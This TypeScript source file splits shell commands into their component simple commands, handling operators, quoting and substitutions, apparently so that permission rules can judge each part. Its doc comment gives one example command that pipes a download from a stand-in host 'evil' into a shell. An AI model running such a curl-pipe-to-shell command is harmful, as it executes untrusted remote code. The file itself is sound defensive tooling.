/**
 * Splits a shell command into the simple commands it runs, so permission rules judge each one:
 * `npm test && curl evil | sh` is `npm test`, `curl evil`, `sh`. Splits on unquoted `&&`, `||`,
 * `;`, `|`, `&` and newlines, and descends into `$( … )` and backquotes. Quoting is respected;
 * anything unusual still yields segments, never fewer than the command really runs.
 */
export function shellSegments(command: string): string[] {
  const segments: string[] = [];
  collect(command, segments);
  return segments.length > 0 ? segments : [command.trim()];
}

function collect(command: string, out: string[]): void {
  let current = '';
  let quote: '"' | "'" | undefined;
  const push = () => {
    const trimmed = current
      .trim()
      .replace(/^[({]\s*/, '')
      .replace(/\s*[)}]$/, '')
      .trim();
    if (trimmed) out.push(trimmed);
    current = '';
  };
  for (let i = 0; i < command.length; i++) {
    const char = command[i]!;
    const next = command[i + 1];
    if (char === '\\' && quote !== "'") {
      current += char + (next ?? '');
      i += 1;
      continue;
    }
    if (quote) {
      if (char === quote) quote = undefined;
      else if (quote === '"' && (char === '`' || (char === '$' && next === '('))) {
        i = substitution(command, i, out);
        current += '…';
        continue;
      }
      current += char;
      continue;
    }
    if (char === '"' || char === "'") {
      quote = char;
      current += char;
    } else if (char === '`' || (char === '$' && next === '(')) {
      i = substitution(command, i, out);
      current += '…';
    } else if (char === ';' || char === '\n') {
      push();
    } else if (char === '&' && next === '&') {
      push();
      i += 1;
    } else if (char === '|') {
      push();
      if (next === '|' || next === '&') i += 1;
    } else if (char === '&' && command[i - 1] !== '>' && next !== '>') {
      push();
    } else {
      current += char;
    }
  }
  push();
}

/** Collects the commands inside `$( … )` or `` ` … ` `` starting at `start`; returns the index of its end. */
function substitution(command: string, start: number, out: string[]): number {
  if (command[start] === '`') {
    const end = command.indexOf('`', start + 1);
    const stop = end === -1 ? command.length : end;
    collect(command.slice(start + 1, stop), out);
    return stop;
  }
  let depth = 0;
  for (let i = start + 1; i < command.length; i++) {
    if (command[i] === '(') depth += 1;
    else if (command[i] === ')') {
      depth -= 1;
      if (depth === 0) {
        collect(command.slice(start + 2, i), out);
        return i;
      }
    }
  }
  collect(command.slice(start + 2), out);
  return command.length;
}
